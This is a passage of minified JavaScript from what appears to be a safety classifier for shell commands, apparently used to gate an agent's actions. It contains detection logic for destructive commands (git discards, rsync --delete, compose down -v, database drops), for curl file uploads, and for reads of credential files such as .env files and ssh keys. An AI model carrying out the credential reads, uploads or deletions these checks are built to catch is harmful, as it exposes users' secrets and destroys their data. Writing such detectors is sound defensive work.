writes:[],deletes:[],moves:[],changes:[]},o=`${t} ${r[0]?.text??""}`,i=S.roles.has(o),a=S.roles.get(i?o:t);if(!a)return n;let l=ue(e,...a.unless??[]),c=r.slice(
(i?1:0)+(l?0:a.skip??0)),d=a.with?.find(f=>ue(e,...f.flags))?.each??a.each,u=s.some(({flag:f})=>a.options?.[f]==="writes"),p=a.last!==void 0&&c.length>1&&!u&&d!==
"none";c.forEach((f,m)=>{let h=p&&m===c.length-1?a.last:d,g=Object.entries(a.keyed??{}).find(([y])=>f.text.startsWith(y));g?n[g[1]].push({text:f.text.slice(g[0].
length),glob:f.glob}):h&&h!=="none"&&n[h].push(f)});for(let{flag:f,value:m}of s){let h=a.options?.[f];h&&n[h].push(m)}if(t==="git"&&(n.reads=n.reads.map(Nx)),(t===
"curl"||t==="http"||t==="https")&&n.reads.push(...Lx(s,r)),t==="tar"&&!Ox(e,r)&&(n.writes=[]),t==="scp"||t==="rsync")for(let f of["reads","writes"])n[f]=n[f].filter(
({text:m})=>!ui(m));return n}var Ox=(t,e)=>{let s=/^[a-zA-Z]*$/.exec(e[0]?.text??"")?.[0]??"";return/[xctru]/.test(s)?s.includes("x"):!ue(t,"-c","-t","-r","-u",
"--create","--list","--append","--update")},ui=t=>/^([\w.-]+@)?[\w.\-[\]:]{2,}:|^(rsync|s3|gs|ftp|sftp|https?):\/\//.test(t)&&!t.startsWith("/"),Nx=t=>/^[\w./~^@{}-]*:[^:]/.
test(t.text)?{...t,text:t.text.slice(t.text.indexOf(":")+1)}:t;function Lx(t,e){let s=t.flatMap(({flag:n,value:o})=>{let i=/^(-d|-F|-b|--data.*|--json|--form|--url-query|-H|--header)$/.
test(n),a=/(?:^@|=@|=<)([^;,]*)/.exec(o.text)?.[1];return i&&a!==void 0?[{...o,text:a}]:[]}),r=e.flatMap(n=>{if(n.text.startsWith("file://"))return[n];let[,o]=/^(?:[\w.-]*:?[@=])?@(.*)/s.
exec(n.text)??[];return o===void 0?[]:[{...n,text:o}]});return[...s,...r]}var{forms:Wt,pathWords:Ef}=S,pi=R(".");function Dx(t,e){let[s]=t.args;if(s?.text==="show")return t.redirects.flatMap(({kind:m,path:h})=>m==="write"&&t.args.some(
({text:g})=>g===`HEAD:${h.text}`)?[h]:[]);if(s?.text!=="checkout"&&s?.text!=="restore")return[];let[r,...n]=ce(t),o=t.args.every(({text:m})=>Wt.restoring_word.test(
m)),i=r&&n.length===0&&Wt.list_of_deleted.test(le(r));if(o&&i&&t.wrappers.includes("xargs"))return[];let a=dr(t,e),{flags:l,options:c,operands:d}=$e("git",a);if(ue(
l,"-p","--patch")&&t.input===void 0)return[];let u=s.text==="restore";if(u&&ue(l,"--staged","-S")&&!ue(l,"--worktree","-W"))return[];if(c.some(({flag:m})=>m==="\
--pathspec-from-file"))return[pi];let p=d.slice(1);if(!u&&ue(l,"-b","-B","-t","--track","--orphan"))return[];let f=ue(l,"--theirs","--ours");return(u?p:jx(p,a)).
flatMap(m=>f&&!Yl(m)&&!/^:|\u{FFFC}/u.test(m.text)?[]:m.text==="\uFFFC"?Fx(e)?[pi]:[]:[Wx(m)])}function jx(t,e){let s=e.findIndex(({text:a})=>a==="--");if(s!==-1)
return e.slice(s+1);let[r,...n]=t,[,o=""]=/\.(\w+)$/.exec(r?.text??"")??[];return n.length===0&&Ef.file_endings.has(o.toLowerCase())||r?.glob||/^\u{FFFC}$|^\.{0,2}\/|^\.{1,2}$|\/$|[*?[]|^:/u.
test(r?.text??"")?t:n}function Wx({text:t,glob:e}){if(/^:(\([^)]*exclude[^)]*\)|[!^])/.test(t))return pi;let s=t.replace(/^:(\([^)]*\)|\/|:)?/,"").replace(/\*\*.*$/s,
"");return s===""?pi:R(s,e)}function Yl({text:t,glob:e}){if(e||/\/$|[*?[]/.test(t))return!0;let[,s="",r=t]=/^(?:(.*)\/)?([^/]*)$/.exec(t)??[];return/^[a-z][a-z0-9_-]*$/.
test(r)&&!Ef.files.has(r)&&!Wt.file_folder.test(s)||/^\.{0,2}$/.test(r)}function Mx({program:t,args:e}){if(t!=="git"||e.some(({text:n})=>n==="--"))return!1;let[
s="",...r]=e.map(({text:n})=>n);return/^(ls-files|status)$/.test(s)?r.every(n=>n.startsWith("-")):s==="diff"&&r.some(n=>n==="--name-only"||n==="--name-status")}
var Fx=ye(t=>{let e=s=>t.some(r=>ce(r).includes(s));return t.some(s=>Mx(s)&&(s.captured||s.redirects.length>0||e(s)))},new WeakMap);function Af(t,e){let s=(r,n,o)=>n.
length>0?[bt(r,n,[],o)]:[];return[...s("end-process",yf(t,e)),...t.flatMap(r=>{let{program:n,folder:o}=r;if(Ux(r,e))return s("compose-elsewhere",[R("down")],o);
if(n==="rsync")return s("sync-away",Vx(r),o);if(n!=="git")return[];let i=Dx(r,e),a=i.filter(c=>!Yl(c)),l=i.filter(Yl);return[...s("git-discard",l,o),...s("git-d\
iscard-file",a,o)]})]}function Ux(t,e){let{program:s,args:r,folder:n,environment:o,wrappers:i}=t;if(!Wt.compose_program.test(s))return!1;let{flags:a,operands:l}=$e(
s,r),[c,d]=l.map(({text:h})=>h),u=c==="compose"?d:c;if(!/^(?:down|rm)$/.test(u??"")||!ue(a,"-v","--volumes","--rmi"))return!1;let p=le(t).replace(Wt.unique_project,
""),f=Object.entries(o).some(([h,{text:g}])=>Wt.compose_variable.test(h)&&!Wt.unique_setting.test(`${h}=${g}`)),m=/^[/~]|^\.\./.test(n?.text??"");return f||e.some(
h=>Wt.context_change.test(le(h)))||!i.every(h=>Wt.timing_wrapper.test(h))||Wt.compose_place.test(p)||m&&!`${n?.text}/`.startsWith(`${cr}/`)}function Vx({args:t}){
let{flags:e,operands:s}=$e("rsync",t);return e.some(n=>/^--del(?!ay|ete-m)/.test(n))&&s.length>1?s.slice(-1).filter(({text:n})=>ui(n)):[]}var Rf=require("node:path");var Tf="\0",Hx=ye(t=>t.replaceAll("\\*",Tf).split("*").map(s=>s.replaceAll(Tf,"*")));function ur(t,e){if(!e.includes("*"))return t===e;let s=Hx(e),[r=""]=s,n=s.
at(-1)??"";if(s.length===1)return t===r;if(t.length<r.length+n.length||!t.startsWith(r)||!t.endsWith(n))return!1;let o=t.length-n.length,i=r.length;for(let a of s.
slice(1,-1)){let l=t.indexOf(a,i);if(l===-1||l+a.length>o)return!1;i=l+a.length}return!0}var ft=(t,e)=>e.some(s=>ur(t,s));var Bx=1e3,zx=1e4,Gx=20,Pf=1024*1024,Kx=20,Wr=class{files=new Map;forgotten=new Set;characters=0;version=0;write(e,s,r,n=[]){let o=Tn(e,r);if(o===void 0)return;
this.version+=1;let i=o.includes("\uFFFC")?this.files.get(o)?.text??"":"";this.forget(o),this.forgotten.delete(o);let a=i.length+s.length>Pf?"\uFFFC\uFFFB":i+s;
this.files.set(o,{text:a,from:n}),this.characters+=a.length;for(let l of this.files.keys()){if(this.files.size<=Bx&&this.characters<=Pf)break;this.forget(l),this.
forgotten.add(l),this.forgotten.size>zx&&this.forgotten.delete(this.forgotten.values().next().value)}}append(e,s,r,n=[]){let o=this.written(e,r),i=e.includes("\uFFFC")?
s:(o?.text??"")+s;this.write(e,i,r,[...o?.from??[],...n].slice(-Kx))}written(e,s){let r=Tn(e,s);if(r!==void 0)return this.files.get(r)??(this.forgotten.has(r)?{
text:"\uFFFC\uFFFB",from:[]}:void 0)}list(e,s){let r=Tn(e,s)?.replace(/\/(?:\.\.\.)?$/,"")??"",n=r.includes("*")?r:`${r}/*`,o=r===""?[]:[...this.files.keys()].filter(
i=>ur(i,n));return[e,...o.slice(0,Gx)].flatMap(i=>this.written(i,s)?.text??[])}forget(e){this.characters-=this.files.get(e)?.text.length??0,this.files.delete(e)}};
function Tn(t,e=""){let s=/^[/~]/.test(t)||e===""?t:`${e}/${t}`;return t===""||t==="\uFFFC"?void 0:Rf.posix.normalize(s)}var{forms:Ql}=S;function fi({text:t}){let e=Ql.host.exec(t.slice(0,2048))?.[1]?.toLowerCase();if(!(e===void 0||!(/[@:]/.test(t)||e.includes(".")||e==="localhost")))
return Ql.local_host.test(e)?"local":Ql.drop_host.test(e)?"drop":"remote"}var{fetchers:qf,network_clients:Yx,copiers:Qx}=S.programWords,{forms:Xx}=S,Jx=500,mi=class{paths=new Set;record(e){let{program:s,args:r,folder:n}=e,[o,i]=Qx.has(
s)?r.filter(({text:l})=>!l.startsWith("-")):[],a=o&&i&&this.has(o.text,n)?[i]:[];for(let{text:l}of[...Zx(e),...a]){let c=If(l,n);c!==void 0&&this.paths.add(c),this.
paths.size>Jx&&this.paths.delete(this.paths.values().next().value)}}has(e,s){let r=If(e,s);return r!==void 0&&this.paths.has(r)}},Mr=({program:t})=>qf.has(t),Of=({
program:t})=>qf.has(t)||Yx.has(t);function Zx(t){let e=t.redirects.filter(({kind:n})=>n!=="read").map(({path:n})=>n);if(!Mr(t))return ce(t).some(Mr)?t.program===
"tee"?t.args.filter(({text:n})=>!n.startsWith("-")):e:[];let{operands:s}=$e(t.program,t.args),r=n=>!Ie(n)||(fi(n)??"local")!=="local";return s.some(r)?[...e,...hn(
t)]:[]}function If(t,e){let s=t.replace(Xx.new_path,"/tmp/new");return s.includes("\uFFFC")?void 0:Tn(s,e?.text)}fr();var{forms:Y}=S,Lf=t=>t.program==="git"&&a0(t)||i0(t)||s0(t)||o0(t)||r0(t)||n0(t)||e0(t)||t0(t);function e0({program:t,invocation:e,context:{invocations:s}}){let{
client:r,needs:n=[],wrappers:o,environment:i}=e;if(!/^(?:kubectl|helm)$/.test(t)||r!==void 0||o.length>0)return!1;if(!("KUBECONFIG"in i)&&Y.local_cluster.test(le(
e)))return!0;let a=u=>Y.cluster_settings.exec(le(u))?.[1]??u.environment.KUBECONFIG?.text,l=a(e),c=n.find(u=>Y.cluster_creation.test(le(u))&&a(u)===l),d=u=>Y.cluster_tool.
test(u.program)&&!Y.other_cluster.test(le(u).replace(Y.cluster_settings," "))&&u.redirects.every(({path:p})=>p.text!==l);return c!==void 0&&!l?.includes(":")&&s.
slice(s.indexOf(c)).every(d)}function t0({program:t,invocation:e,context:{invocations:s}}){let{client:r=e,needs:n=[]}=e;if(e.client===void 0&&!Y.database_client.
test(t))return!1;let o=` ${r.args.map(({text:m})=>m).join(" ")} `,i=[...o.matchAll(Y.server_place)].map(([,m,h])=>m??h),a=({text:m})=>!/\s/.test(m)&&/[/@:]/.test(
m)&&!i.some(h=>m.includes(h)),l=r.program.startsWith("my")&&!/ (?:-h ?|--host[= ])127\.0\.0\.1 | -S /.test(o),c=Object.keys(r.environment).some(m=>Y.place_variable.
test(m)),d=s.some(m=>Y.forwarding_program.test(m.program));if(i.length===0||l||c||d||Y.other_server.test(o)||r.args.some(a))return!1;let u=s.slice(0,Math.max(0,
s.indexOf(e))).filter(({wrappers:m})=>m.length===0),p=(m,h)=>Y.container_start.test(le(m))&&le(m).replace("-p 127.0.0.1:","-p ").includes(` -p ${h}:`),f=(m,h)=>!Y.
usual_port.test(h)&&Y.server_start.exec(`${le(m)} `)?.[1]===h;return i.every(m=>m.startsWith("/")?u.some(h=>Y.server_program.test(h.program)):n.some(h=>p(h,m))||
u.some(h=>f(h,m)))}var Fr=t=>t.includes(S.uniqueMark);function s0({program:t,operands:e,invocation:s,context:{invocations:r}}){let n=s.args.map(({text:c})=>c),o=n.
filter(Fr),i=e.findIndex(({text:c})=>Fr(c)),a=i<3&&(i===-1||e.slice(i).every(({text:c})=>Fr(c)));if(t==="kubectl"||o.length===0||!a||i===-1&&e.length>3)return!1;
let l=(c,d)=>!Fr(c)||Y.naming_option.test(c.startsWith("-")?c:n[d-1]??"");return i===-1&&!n.every(l)?!1:r.slice(0,Math.max(0,r.indexOf(s))).some(c=>{let d=c.args.
map(({text:f})=>f);return(d.some(f=>Y.making_word.test(f))&&c.program===t&&!d.some(f=>Y.referring_word.test(f))||t==="dropdb"&&c.program==="createdb")&&(Y.name_maker.
test(d.join(" "))||o.every(f=>d.includes(f)))})}function r0({invocation:t,context:{invocations:e}}){let[,s]=Y.named_here.exec(le(t))??[],r=e.some(i=>Y.context_change.
test(le(i))),n=Object.keys(t.environment).some(i=>Y.compose_variable.test(i));if(s===void 0||t.wrappers.length>0||r||n)return!1;let[o=""]=s.split("/").slice(-1);
return Y.test_thing.test(o)&&Df(o)}function n0({program:t,invocation:e,context:{invocations:s}}){let{environment:r,wrappers:n}=e,{GNUPGHOME:o,COMPOSE_PROJECT_NAME:i}=r;
if(n.length>0||s.some(l=>Y.brings_files.test(l.program)))return!1;let a=le(e);return/^gpg2?$/.test(t)?o!==void 0&&Y.new_folder.test(o.text)&&!/ --ho/.test(a):Y.
compose_down.test(a)&&Fr(i?.text??Y.project_name.exec(a)?.[1]??"")}var Df=t=>Y.scratch_name.test(t)&&!Y.kept_name.test(t);function o0({program:t,invocation:e,context:{
invocations:s}}){let[,r]=Y.git_abort.exec(oe(e.args).text)??[],n=s.slice(0,Math.max(0,s.indexOf(e))),o=a=>Jl(a)&&a.args[0]?.text===r&&a.folder?.text===e.folder?.
text,i=a=>a.args.some(({text:l})=>Y.git_step.test(l));return t==="git"&&r!==void 0&&n.some(a=>o(a)&&!i(a))}function i0({program:t,invocation:e,context:{invocations:s}}){
let r=S.creations.get(t);if(!r)return!1;let[n,o]=Nf(e),[,i]=new RegExp(r.destroys).exec(n)??[],a=i!==void 0&&Y.new_folder.test(i),l=u=>Y.near_wrapper.test(u)||a&&
Y.code_wrapper.test(u);if(i===void 0||!e.wrappers.every(l))return!1;let c=Df(i)||Fr(i)||Y.temporary_file.test(i),d=new RegExp(r.makes);return s.slice(0,Math.max(
0,s.indexOf(e))).some(u=>{let[p,f]=Nf(u),m=Y.makes_new.test(`${u.program} ${p}`),h=c||m&&!i.includes("\uFFFC")&&e.needs?.includes(u),g=u.program===r.maker&&d.exec(
p)?.slice(1).includes(i);return h&&g&&f===o})}function Nf(t){let{program:e,args:s,folder:r,environment:n,client:o,wrappers:i}=t,a=s.map(({text:h})=>h),{operands:l,
options:c}=$e(e,s),d=c.filter(({flag:h})=>h==="--name").map(({value:h})=>h.text),u=e==="git"?a:[...l.map(({text:h})=>h),...d],p=a.filter(h=>!u.includes(h)&&!Y.placeless_flag.
test(h)),f=o?.args.flatMap(({text:h})=>/\s/.test(h)?[]:[h]),m=[e==="git"?[]:p,r?.text,n,f,i];return[u.join(" "),JSON.stringify(m)]}function a0(t){let{environment:e,
folder:s,args:r}=t.invocation,[n=""]=t.operands.map(({text:l})=>l);if(n==="push")return l0(t);if(s===void 0||!jf(s.text,t)||"GIT_DIR"in e||"GIT_WORK_TREE"in e)return!1;
let o=t.context.invocations.map(l=>oe(l.args).text);if(o.some(l=>/core\.worktree|^-\S*s\S* .* \/tmp\//i.test(l))||Object.values(e).some(({text:l})=>/core\.worktree/i.
test(l)))return!1;let i=Y.new_folder.test(s.text)&&t.invocation.language!=="shell",a=({program:l,redirects:c})=>Y.brings_files.test(l)||c.some(({path:d})=>/\.git$/.
test(d.text));return i&&!t.context.invocations.some(a)&&!o.some(l=>/worktree|git-?dir/i.test(l))?!0:S.programWords.tree_commands.has(n)?!r.some(({text:l})=>/^[/~]/.
test(l)):Wf(s.text,t)}function jf(t,{context:{workspace:e,folder:s=e}}){let r=[e,s].some(n=>Xl(t,n)||Xl(n,t));return Y.temporary_file.test(t)&&!r}function l0(t){
let{operands:e,invocation:s,context:r}=t,[,n="origin"]=e.map(({text:l})=>l);if(Y.temporary_file.test(n))return!0;let i=r.invocations.filter(Jl).map(({args:l})=>oe(
l).text).some(l=>Y.remote_setting.test(l)),a=s.folder?.text??"";return n==="origin"&&!i&&jf(a,t)&&Wf(a,t,Y.temporary_file)}var Wf=(t,{context:e},s=/(?:)/)=>e.invocations.
some(r=>Jl(r)&&Xl(t,c0(r,s))),Jl=({program:t})=>t==="git",Xl=(t,e)=>e!==void 0&&`${t}/`.startsWith(`${e}/`);function c0({args:t,folder:e},s){let[r,n="",o]=$e("g\
it",t).operands.map(({text:i})=>i);if(r==="init")return[n,e?.text].find(i=>i!==void 0&&Y.new_folder.test(i));if(!(r!=="clone"||o===void 0||!s.test(n)))return o.
startsWith("/")||e===void 0?o:`${e.text}/${o}`}var{ownData:Pn,interpreters:d0,clients:u0,forms:Ft}=S;function Ff(t){let{program:e,operands:s,invocation:r}=t,{client:n}=r;if(e==="sql")return n!==void 0&&(p0(t,
n)||Mf(n));if(Ft.http_client.test(e)){let o=s.filter(({text:a})=>/[/:]/.test(a)),i=({text:a})=>Ft.loopback.test(a)&&Ft.test_name.test(a);return o.length>0&&o.every(
i)}return Zl(r,Pn.endpoints,o=>Ft.loopback.test(o))||Zl(r,Pn.addresses,o=>Ft.passing_address.test(o))?!0:!u0.has(e)&&e!=="gsutil"&&Mf(r)}function Zl({args:t,environment:e},s,r){
let o=[...t.flatMap(({text:i},a)=>{let[,l,c="",d]=/^(--?)?([A-Za-z][\w-]*)(?:=([\s\S]*))?$/.exec(i)??[];return s.includes(c)&&(l!==void 0||d!==void 0)?[d??t[a+1]?.
text??""]:[]}),...s.flatMap(i=>e[i]?.text??[])];return o.length>0&&o.every(r)}var Mf=t=>Zl(t,Pn.environments,e=>ft(e,Pn.stages));function p0({operands:[t],context:e},{
program:s,args:r}){let n=d0.get(s),o=s.startsWith("mongo");if(!n||n.language!=="sql"&&!o)return!1;if(s==="clickhouse"&&r[0]?.text==="local"||s==="bq"&&r.some(({
text:g})=>g==="--dry_run"))return!0;let{options:i,operands:a}=j(r,n),l=W(i,...Pn.databases).map(({text:g})=>g),c=e.invocations.flatMap(g=>g.program==="sql"&&g.args[0]?.
text==="attach"?[g.args[1]?.text??""]:[]),d=Ft.file_client.test(s),u=a[0]?.text??(d?":memory:":[]),p=[l,u,c].flat();if(p.length===0||o&&r.some(({text:g})=>/sibling|\buse\b|connect|mongo\(/i.
test(g)))return!1;let f=!o&&Ft.beyond_database.test(t?.text??""),m=g=>g.includes(S.uniqueMark)&&!r.some(({text:y})=>Ft.leaves_database.test(y))&&e.invocations.some(
y=>y.program==="createdb"&&y.args.some(({text:x})=>x===g)),h=g=>d&&Ft.passing_file.test(g)||!f&&(Ft.test_name.test(g)||m(g));return p.every(h)}fr();var{forms:hi}=S,ec=({environment:t})=>t.POSIXLY_CORRECT!==void 0;function Uf(t,e){let s=e.findIndex(({text:n})=>n==="--"),r=e.slice(0,s===-1?void 0:s);return!ec(
t)&&!r.some(({text:n,bare:o})=>o&&n.startsWith("\uFFFC"))}function Vf(t,e,s){let r=m0(t,e);return!e.flags.some(n=>r.includes(n))||e.flags.some(n=>/^--no-(d|n$)/.
test(n)||t==="git"&&n==="--apply")||e.options.some(({flag:n,value:o})=>r.includes(n)&&!hi.affirmative_value.test(o.text))?!1:s.every((n,o)=>{if(!f0(n,r))return!0;
let[,i]=/^-\w+=(.*)$/s.exec(n)??[];return i!==void 0&&!hi.affirmative_value.test(i)?!1:!Hf(t,s,o)&&!hi.negative_value.test(s[o+1]??"")})}function f0(t,e){if(t.startsWith(
"--"))return e.includes(t.split("=")[0]);let s=r=>r===t||/^-\w$/.test(r)&&t.includes(r[1]);return/^-\w/.test(t)&&e.some(s)}function Hf(t,e,s){let r=e[s-1]??"";return t===
"git"||!r.startsWith("-")||r.includes("=")?!1:r.startsWith("--")?r.length>2&&!S.help.switches.has(r):Rr(t)?.short===void 0&&!hi.bare_letter.test(r)}function m0(t,{
operands:e}){let s=[t,...e.slice(0,3).map(({text:o})=>o)],n=s.map((o,i)=>s.slice(0,i+1).join(" ")).findLast(o=>S.dryRuns.has(o));return S.dryRuns.get(n??(S.clients.
has(t)?"client":""))?.flags??[]}function Bf(t,e,s){let{flags:r,operands:n}=e,o=S.help;if(o.leading.has(t.replace(/^g/,"")))return/^--(?:help|version)$/.test(s[0]??
"");if(o.none.has(t)||s.some(c=>/^--?help=/.test(c)))return!1;let i=o.one_dash.has(t)?/^(?:--?help|-h)$/:/^--help$/;if(r.some(c=>i.test(c)))return s.some((c,d)=>i.
test(c)&&!Hf(t,s,d));if(s.length===1&&s[0]==="--version")return!0;if(!o.verbs.has(t)&&!S.clients.has(t))return!1;let[a,l]=n.map(({text:c})=>c);return a==="compl\
etion"&&/^(bash|zsh|fish|powershell|pwsh)$/.test(l??"")?!0:a==="help"||t==="aws"&&n.at(-1)?.text==="help"}var{clients:h0,clientWords:Ur,forms:zf}=S,g0=6;function Gf(t,{path:e,args:s}){let r=h0.get(t);if(!r||zf.own_program.test(e)&&!Ur.project.has(t))return!1;let n=$e(
Rr(t)?t:"client",s).operands.slice(0,r.words??g0).map(({text:i})=>i),o=n.join(" ");if(r.spares?.some(i=>o===i||o.startsWith(`${i} `)))return!1;for(let i of n){if(!zf.
subcommand_word.test(i))return!1;if(r.verbs?.some(c=>i===c||i.endsWith(`:${c}`)))return!0;let a=b0(i);if(Ur.others.has(i)||a.length>1&&Ur.others.has(`${a[0]}-`)||
Ur.local.has(i)){if(!r.nouns?.includes(i))return!1}else if(Ur.destroys.has(a[0])||Ur.destroys.has(a.at(-1)))return!0}return!1}function b0(t){return t.replace(/^.*[:.]/,
"").replace(/([a-z])([A-Z])/g,"$1-$2").toLowerCase().split(/[-_]/)}var tc=[...mn,"names"];function Kf(t,e){let{program:s,subcommand:r,flags:n,options:o,args:i,recursive:a,root:l,via:c,environment:d,language:u}=e;if(s&&!ft(t.program,
s)||u&&!u.includes(t.invocation.language)||a!==void 0&&t.recursive!==a||l!==void 0&&t.root!==l||c&&!t.invocation.wrappers.some(f=>ft(f,c)))return!1;let p=r?y0(t,
r):0;if(p===void 0||n&&!v0(t,n)||o&&!Object.entries(o).every(([f,m])=>$0(t,f,m))||i&&!x0(t.operands.slice(p),i)||d&&!Object.entries(d).every(([f,m])=>_0(t,f,m)))
return!1;for(let f of tc){let m=e[f];if(m&&!sc(t.getPathClasses(f),m))return!1}return e.redirected!==void 0&&Yf(t,e)!==e.redirected||e.unknown&&!t.invocation.args.
some(({text:f})=>f.includes("\uFFFC"))||e.to&&!E0(t,e.to)||e.service_verb&&!Gf(t.program,t.invocation)||e.downloaded&&!t.downloaded||e.from&&!S0(t,e.from)?!1:!e.
line||C0(t.context.invocations)(e.line)}function Yf(t,{writes:e}){let s=t.getPathClasses("redirected");return e?sc(s,e):s.size>0}var sc=(t,e)=>e.some(s=>t.has(s)),
Qf=ye(t=>t.split(" "));function y0({operands:t},e){for(let s of e){let r=Qf(s);if(t.length>=r.length&&r.every((n,o)=>ur(t[o].text,n)))return r.length}}var w0=["\
subcommand","flags","options","args","names","to"],k0=["options","to"];function Xf(t,e,s){let{program:r,operands:n}=t;return!e.program||!ft(r,e.program)||e.redirected===
!0&&!Yf(t,e)||!(s==="any"?w0:k0).some(o=>e[o]!==void 0)?!1:(e.subcommand??[""]).some(o=>Qf(o).every((i,a)=>{let l=n[a];return i===""||l===void 0||l.text.includes(
"\uFFFC")||ur(l.text,i)}))}function v0({flags:t,invocation:e},{any:s,all:r,none:n}){return s&&!ue(t,...s)||r&&!r.every(o=>ue(t,o))?!1:!n||ec(e)||!ue(t,...n)}function x0(t,{
any:e,none:s,at_least:r,at_most:n}){return r!==void 0&&t.length<r||n!==void 0&&t.length>n||e&&!t.some(({text:o})=>ft(o,e))?!1:!s||!t.some(({text:o})=>ft(o,s))}var $0=({
options:t},e,s)=>t.some(({flag:r,value:n})=>ue([r],e)&&ft(n.text,s)),_0=({invocation:t},e,s)=>Object.entries(t.environment).some(([r,{text:n}])=>ur(r,e)&&ft(n,s));
function S0({from:t},e){let{program:s,reads:r,without:n,operands_at_most:o=Number.POSITIVE_INFINITY}=e;return n&&t.some(i=>ft(i.program,n))?!1:t.some(i=>ft(i.program,
s)&&i.operands.length<=o&&(!r||sc(i.getPathClasses("reads"),r)))}var C0=ye(t=>{let e=t.map(r=>le(r).slice(0,2e3)),s=r=>e.some(n=>ft(n,r));return ye(({any:r,none:n})=>(!r||
s(r))&&!(n&&s(n)))},new WeakMap);function E0(t,e){let s=t.options.filter(({flag:r})=>/^--(?:(?:extra-)?index-)?url$|^--registry$/.test(r));return[...t.operands,
...s.map(({value:r})=>r)].some(r=>{let n=fi(r);return n===e||e==="remote"&&n==="drop"})}var{forms:Cs}=S,A0=new RegExp(`(^|/)(${S.credentialStores})(/|$)`),T0=t=>S.pathWords.source_endings.has(/\.(\w+)$/.exec(t)?.[1]??"");function gi(t){let e=t.slice(
t.lastIndexOf("/")+1);return e.includes(" | ")?!1:/^\.env([.\-_].*)?$/.test(e)||/^[^.*]+\.env$/.test(e)?!Cs.template.test(e):S.pathWords.credentials.has(e)?e!==
"environ"||t.startsWith("/proc/"):A0.test(t)||Cs.memory.test(t)||Cs.ssh.test(t)&&!Cs.ssh_settings.test(t)?!0:/credentials?(?![a-z])/.test(e)?!T0(e)&&!Cs.template.
test(e.replace(/\.\w+$/,"")):Cs.credential_name.test(e)?!(Cs.fixture_folder.test(t)&&Cs.fixture_key.test(e)):/[*?[]/.test(e)&&R0(e)}var P0=6;function R0(t){if(t.
length>64)return!1;let e=t.replace(/\[[^\]]*\]|[*?]/g,"");if(!(/^[*]/.test(t)?e.replace(/^\.\w+$/,"").length>=3:e.length>=2)&&!(t===".*"||/^\.[?[]/.test(t)))return!1;
let r=t.replace(/[\\$.+(){}|]|(?<!\[)\^/g,"\\$&").replace(/\[!/g,"[^"),n=r.match(/\*+/g)?.length??0,o=Ss(`^${r.replace(/\*+/g,".*").replace(/\?/g,".")}$`),i=S.credentialSamples.
filter(a=>!a.startsWith(".")||/^[.[]/.test(t));return n>P0||i.some(a=>o?.test(a))}function rc(t,{workspace:e,folder:s}){let r=Jf(t.replace(/^file:\/\/(localhost)?/,"")),n=Jf(e);if(s!==void 0&&!/^[/~]/.test(r)&&!r.startsWith("\uFFFC")&&s!==".")
return rc(s.endsWith("/")?`${s}${r}`:`${s}/${r}`,{workspace:n});let o="workspace",i=r;/^~/.test(r)?(o="home",i=r.replace(/^~[^/]*/,"")):r.startsWith("\uFFFC")?(o=
"unknown",i=r.replace(/^\u{FFFC}+/u,""),i!==""&&!i.startsWith("/")&&(i=`${"\uFFFC"}${i}`)):r.startsWith("/")&&(o="slash");let a=[],l=0;for(let d of i.split("/"))
d===""||d==="."||(d!==".."?a.push(d):a.length>0?a.pop():(o==="workspace"||o==="home")&&(o=o==="home"?"slash":"above"),d===".."&&o==="above"&&(l+=1));if(o==="abo\
ve"&&I0(l,a[0])&&(o="slash"),o==="slash"){let d=`/${a.join("/")}`,u=/^\/((?:[A-Za-z]:\/)?(?:root|(?:home|Users)(?:\/[^/]+)?))(\/|$)/.exec(d);d===n||d.startsWith(
`${n}/`)?(o="workspace",a.splice(0,n.split("/").filter(Boolean).length)):u&&(o="home",a.splice(0,u[1].split("/").length))}let c=!1;for(;a.length>0&&S.forms.whole_folder.
test(a.at(-1));)a.pop(),c=!0;return{from:o,parts:a,whole:c,inside:o==="unknown"&&i.startsWith("/")}}var Jf=t=>t.replace(/^([A-Za-z]:)(?=[\\/]|$)/,"/$1").replaceAll(
"\\","/");function I0(t,e=""){let s=e.toLowerCase(),{root_folders:r,system_folders:n}=S.pathWords;return r.has(s)?t>=2:t>=4&&(n.has(s)||s==="home")}var{pathWords:Vr,purposes:q0,forms:Ut}=S;function Zf(t,e){if(t.text===""||t.text.length>4096)return new Set;let s=rc(t.text,e),r=s.parts.map(a=>a.toLowerCase()),
n=`${s.from==="slash"?"/":""}${r.join("/")}`,o=F0(s.from,n,r);if(Ut.device.test(n))return new Set(o);let i=new Set([...o,...O0(s,n,r)]);return gi(s.from==="home"?
`~/${n}`:n)&&i.add("credentials"),r.at(-1)?.includes("credentials")&&i.add("credentials-by-name"),i}function O0({from:t,whole:e,inside:s},r,n){let[o=""]=n;if(t===
"slash"){if(Ut.temp.test(r))return[/^\/(private\/)?(tmp|var\/tmp|dev\/shm)$/.test(r)?"temp-root":"temp"];if(n.length===0)return["root"];if(Ut.package_cache.test(
`${r}${e?"/":""}`))return["disposable"];if(Ut.local_system.test(r))return["local-system"];if(/^[a-z]:$/.test(o))return N0(n.slice(1));if(Vr.system_folders.has(o)||
/[*?[{]|^(program files.*|windows)$/.test(o))return Ut.system_tree.test(L0(n))?["system","system-tree"]:["system"]}return bi(n)||(t==="workspace"||t==="unknown")&&
n.some(j0)?["disposable"]:t==="unknown"?n.length>0?[]:[s?"unknown-folder":"unknown"]:t==="slash"?[n.length===1?"workspace":"outside",...n.length<=3?["source"]:[]]:
n.length===0?[t==="home"?"home":"workspace"]:t==="home"||t==="above"?[n.length===1||t==="home"&&Vr.personal_folders.has(o)?"personal":"outside"]:n.length===1&&o===
"\uFFFC"?[e?"workspace":"unknown"]:n.length>2?["inner"]:Vr.source_folders.has(o)||/[*?[{\u{FFFC}]/u.test(o)?["source","source-folder"]:["source"]}function N0(t){
let[e,...s]=t;return e===void 0?["root"]:Ut.windows_folder.test(e)?s.length===0?["system","system-tree"]:["system"]:bi(s)?["disposable"]:[s.length===0?"workspac\
e":"outside"]}function L0(t){let e=t.findLastIndex(s=>!/[*?[{\u{FFFC}]/u.test(s));return`/${t.slice(0,Math.max(1,e+1)).join("/")}`}function D0(t){let[e,s]=/\[(\w{1,8})\]/.
exec(t)??[];return e===void 0?[t]:[...s].map(r=>t.replace(e,r))}var j0=(t,e,s)=>(e>0?[`${s[e-1]}/${t}`,.../^[._]/.test(t)?[t]:[]]:[t]).some(n=>Vr.project_outputs.
has(n));function bi(t){if(t.includes(".git"))return/\.(lock|sample)$/.test(t.at(-1))||bi(t.slice(0,t.indexOf(".git")));let e=(s,r)=>r>0&&/^test[-_.].*\*/.test(s);
